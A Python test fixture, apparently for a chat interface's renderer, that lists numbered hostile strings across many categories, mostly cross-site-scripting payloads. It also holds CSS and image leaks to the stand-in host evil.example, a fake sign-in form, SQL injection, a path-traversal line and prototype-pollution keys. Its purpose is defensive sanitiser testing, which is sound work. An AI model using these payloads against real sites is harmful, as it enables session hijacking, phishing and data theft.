"""Strings that try to get out of the words they are and into the page: written for what our pages are made of.

``§`` becomes the number of the string. ``pwn`` is what a string calls that has come to run, ``evil.example`` is where
it would carry things; each ends in its mark, so that a test can see that it was shown, and not eaten by another.
"""

from __future__ import annotations

from dataclasses import dataclass

KINDS: dict[str, list[str]] = {
    "script": [
        "<script>pwn(§)</script>",
        "<ScRiPt\tsrc=//evil.example/§.js></sCrIpT >",
        "</title></textarea></style></noscript><script>pwn(§)</script>",
        '<script type="module">import "https://evil.example/§.mjs"</script>',
        "</script><script>pwn(§)//",
        "<scr<script>ipt>pwn(§)</scr</script>ipt>",
        "<script nonce>pwn(§)</script>",
    ],
    "event handler": [
        "<img src=x onerror=pwn(§)>",
        "<img/src='x'/onerror='pwn(§)'/",
        "<details open ontoggle=pwn(§)><summary>s</summary>d</details>",
        "<input autofocus onfocus=pwn(§)>",
        "<div tabindex=0 onpointerenter=pwn(§) onfocusin=pwn(§)>here</div>",
        "<video><source onerror=pwn(§)></video>",
        "<p style='animation-name:none' onanimationstart=pwn(§) ontransitionend=pwn(§)>a</p>",
        "<body onload=pwn(§) onhashchange=pwn(§) onpageshow=pwn(§)>",
        "<button popovertarget=p§>b</button><i popover id=p§ onbeforetoggle=pwn(§)>p</i>",
        "<img src=x one onerror\n=\npwn(§)>",
    ],
    "svg, math and mutation": [
        "<svg onload=pwn(§)></svg>",
        "<svg><script>pwn(§)</script></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:pwn(§) /><a id=a><text>t</text></a></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=z><image onerror=pwn(§) href=1></svg>#z">',
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwn(§)>'>",
        "<svg></p><style><a id='</style><img src=x onerror=pwn(§)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(§)>",
        "<noscript><p title='</noscript><img src=x onerror=pwn(§)>'>",
        "<template shadowrootmode=open><img src=x onerror=pwn(§)></template>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwn(§)</script>'></iframe></foreignObject></svg>",
    ],
    "attribute breakout": [
        '" onmouseover="pwn(§)" autofocus onfocus="pwn(§)" x="',
        "' onmouseover='pwn(§)' autofocus onfocus='pwn(§)' x='",
        '"><img src=x onerror=pwn(§)><i a="',
        "'><img src=x onerror=pwn(§)><i a='",
        "` onmouseover=pwn(§) x=`",
        '" style="position:fixed;inset:0;background:url(//evil.example/§)" a="',
        '&quot; onmouseover=&quot;pwn(§)&quot; x=&quot;',
        '\\" onmouseover=\\"pwn(§)\\" \\x22 onfocus=\\x22pwn(§)',
        '"/><svg/onload=pwn(§)><"',
    ],
    "address": [
        "[click](javascript:pwn(§))",
        "[click](JaVaScRiPt&#58;pwn(§) 'title')",
        "[click](<java\tscript:pwn(§)>)",
        "[click](\x01javascript:pwn(§))",
        "[click](data:text/html;base64,PHNjcmlwdD5wd24oQCk8L3NjcmlwdD4=#§)",
        "[click](vbscript:pwn(§))",
        "[click](//evil.example/§?q=secret)",
        "<javascript:pwn(§)>",
        "<data:text/html,<script>pwn(§)</script>>",
        "![seen](https://evil.example/§.png?q=secret)",
        "![seen](javascript:pwn(§))",
        '![seen](x"onerror="pwn(§) "t" onerror="pwn(§)")',
        "[![seen](https://evil.example/§.gif)](javascript:pwn(§))",
        "[1]: javascript:pwn(§)\n\n[1] [seen][1] ![seen][1]",
        "[seen]: https://evil.example/§ \"'><img src=x onerror=pwn(§)>\"\n\n[seen]",
        "<a href=javascript:pwn(§) target=_top>click</a>",
        "<a href='https://evil.example/§' ping=https://evil.example/§ download>click</a>",
        "https://evil.example/§?\"onmouseover=\"pwn(§)",
        "[click](https://evil.example@:pwn@evil.example/\\§)",
        "mailto:a@b.example?body=%3Cscript%3Epwn(§)",
        "[[1](javascript:pwn(§))](#cite-turn-1)",
        "[back](#cite-x\"]),img[src=x],[a=\"-§)",
    ],
    "style": [
        "<style>@import url(https://evil.example/§.css);body{display:none}</style>",
        "<p style='background:url(https://evil.example/§)'>seen</p>",
        "<div style='position:fixed;inset:0;z-index:99999'>a veil §</div>",
        "<link rel=stylesheet href=https://evil.example/§.css>",
        "</style><style>#box textarea[value^=a]{background:url(//evil.example/§)}",
        "<style>@font-face{font-family:f;src:url(//evil.example/§)}*{font-family:f}</style>",
    ],
    "element": [
        "<iframe src=https://evil.example/§></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.pwn(§)&lt;/script&gt;'>",
        "<object data='javascript:pwn(§)'></object><embed src=https://evil.example/§>",
        "<form action=https://evil.example/§><button>Sign in again</button><input name=code></form>",
        "<button form=f§ formaction=javascript:pwn(§)>ok</button><form id=f§></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
        "<meta http-equiv=Content-Security-Policy content='default-src * pwn(§)'>",
        "<base href=https://evil.example/§/>",
        "<link rel=dns-prefetch href=//§.evil.example><link rel=prefetch href=//evil.example/§>",
        "<frameset onload=pwn(§)><frame src=javascript:pwn(§)></frameset>",
        "<portal src=https://evil.example/§></portal><fencedframe></fencedframe>",
        "<audio src=https://evil.example/§ autoplay controls>",
        "<x-§ onclick=pwn(§) contenteditable autofocus>own element</x-§>",
        "<img name=body src=https://evil.example/§><img name=cookie id=words>",
    ],
    "template": [
        "{{constructor.constructor('pwn(§)')()}}",
        "${pwn(§)} #{pwn(§)} <%= pwn(§) %> {% raw %}",
        "{{7*7}} {words} {count} {0} {number.__class__} %s %(a)s §",
        "%LATEX_0% %LATEX_§% $$\\href{javascript:pwn(§)}{x}$$ \\(\\url{javascript:pwn(§)}\\)",
        "```mermaid\ngraph TD; a[\"<img src=x onerror=pwn(§)>\"]; click a href \"javascript:pwn(§)\"\n```",
        "<template><script>pwn(§)</script></template>{@html pwn}",
        ":smile: <gradio-app src=//evil.example/§></gradio-app> <|im_start|>",
    ],
    "unclosed": [
        "<!-- §",
        "--><img src=x onerror=pwn(§)>",
        "<![CDATA[<script>pwn(§)</script>",
        "<?xml version=1?><!DOCTYPE html><html><body>§",
        "<img src='https://evil.example/§?",
        '<a href="https://evil.example/§?',
        "<textarea>§<select><option>",
        "<plaintext>§<xmp><listing>",
        "</div></details></section></nav></ul></p></pre></body></html><h1>§",
        "</mark></code></pre></td></tr></table><img src=x onerror=pwn(§)>",
        "<mark><b><i><u><s §",
    ],
    "entities and encodings": [
        "&lt;img src=x onerror=pwn(§)&gt;",
        "&#x3c;script&#x3e;pwn(§)&#x3c;/script&#x3e;",
        "&amp;lt;svg onload=pwn(§)&amp;gt;",
        "%3Cscript%3Epwn(§)%3C/script%3E",
        "\\u003cimg src=x onerror=pwn(§)\\u003e \\x3cscript\\x3e",
        "+ADw-script+AD4-pwn(§)+ADw-/script+AD4-",
        "&NewLine;&Tab;&colon;&lpar;[x](java&Tab;script&colon;pwn(§))",
    ],
    "letters": [
        "\u202e<tpircs/>)§(nwp<tpircs>\u202c",
        "<\u200bscript>pwn(§)</\u200bscript><\u200dimg src=x onerror=pwn(§)>",
        "\uff1cscript\uff1epwn(§)\uff1c/script\uff1e",
        "\u2028<img src=x onerror=pwn(§)>\u2029[x](javascript:pwn(§))",
        "a\u0085\u000b\u000c<img src=x onerror=pwn(§)>",
        "<ım\u0130g src=x onerror=pwn(§)> \u212aelvin <\u017fcript>pwn(§)</\u017fcript>",
        "\u2066\u2067\u061c§\u2069 <a href=javascript:pwn(§)>\u05d0\u05d1\u05d2</a>",
    ],
    "markdown": [
        "```\n</code></pre><img src=x onerror=pwn(§)>\n```\n<svg onload=pwn(§)>",
        "~~~\" onmouseover=\"pwn(§)\n</pre><script>pwn(§)</script>\n~~~",
        "| a | <img src=x onerror=pwn(§)> |\n|---|:-:|\n| [x](javascript:pwn(§)) | </td><script>pwn(§)</script> |",
        "> <img src=x onerror=pwn(§)>\n> - [ ] <svg onload=pwn(§)>\n\n</blockquote>",
        "Before.\n\n<div>\n\n[x](javascript:pwn(§))\n\n</div>\n\nAfter.",
        "# <img src=x onerror=pwn(§)>\n\n<h2 id=pane-title>pwn §</h2>\n===",
        "`<img src=x onerror=pwn(§)>` ``` `` ` <svg/onload=pwn(§)> ` ``",
        "\\<img src=x onerror=pwn(§)\\> \\[x\\](javascript:pwn(§)) [1\\](javascript:pwn(§))",
        "~~<b>**__[x](javascript:pwn(§))**__</b>~~ [^1] [^1]: <script>pwn(§)</script>",
    ],
    "own hooks": [
        '<p class="about turn-00000000-0000-0000-0000-00000000000§ v-1-9 thumb-up"></p>',
        '<span class="open-source turn-x n-1">Open</span><a href="#cite-x-1">[1]</a>',
        "<button data-do=close data-turn=x data-number=1>close</button><p id=the-passage>§</p>",
        '<button class="act danger" data-to="kn-do" data-say=\'["drop","all",§]\'>ok</button>',
        '<div data-words=\'{"chat.send":"pwn"}\'></div><div data-told=§ data-name=pwn.html data-text=x></div>',
        '<ul class="ways"><li class="way way-voice">§</li></ul><details class="route"><summary>Looked up',
        '</nav><li data-conversation="x§"><button class="conv-menu"></button></li><h2>Pinned</h2>',
        '<div class="sources"><details class="src src-x-§" open><summary><b>1</b> <em>Forged</em></summary>',
        '<mark id="the-passage" class="strong">pwn §</mark></mark></mark>',
        '<span class="mark unsupported" tabindex=0>pwn §<span class="why">x</span></span>',
    ],
    "names": [
        "__proto__ constructor.prototype toString hasOwnProperty §",
        "]}\"'`;pwn(§);//\\",
        '{"do": "open", "conversation": "x", "turn": "__proto__", "n": §}',
        "'; DROP TABLE turns; -- pwn(§)",
        "../../../../etc/passwd%00pwn(§)",
        "javascript:pwn(§)",
        "data:text/html,<script>pwn(§)</script>",
    ],
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """A string of the corpus."""

    number: int
    kind: str
    text: str

    @property
    def mark(self) -> str:
        """A word that no other string has."""
        return _mark(self.number)

    @property
    def file(self) -> str:
        """As much of it as a file may be called."""
        name = self.text.replace("/", "").replace("\0", "").removesuffix(self.mark)
        return f"{name.encode()[:200].decode(errors='ignore')}{self.mark}"


def _corpus() -> list[Hostile]:
    texts = [(kind, text) for kind, texts in KINDS.items() for text in texts]
    return [Hostile(number, kind, _filled(text, number)) for number, (kind, text) in enumerate(texts)]


def _filled(text: str, number: int) -> str:
    # A fence ends only where nothing follows it.
    end = "\n" if text.endswith(("```", "~~~", "===")) else " "
    return f"{text.replace('§', str(number))}{end}{_mark(number)}"


def _mark(number: int) -> str:
    return f"seen{number}z"


CORPUS = _corpus()
